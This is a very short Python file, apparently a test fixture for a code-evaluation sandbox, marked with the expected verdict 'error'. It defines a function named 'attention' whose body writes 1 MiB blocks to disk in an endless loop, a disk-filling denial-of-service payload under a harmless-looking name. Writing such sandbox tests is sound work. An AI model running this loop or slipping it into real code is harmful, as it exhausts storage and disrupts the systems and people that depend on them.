# verdict: error
"""Fills the disk."""

def attention(q, k, v):
    with open("large", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
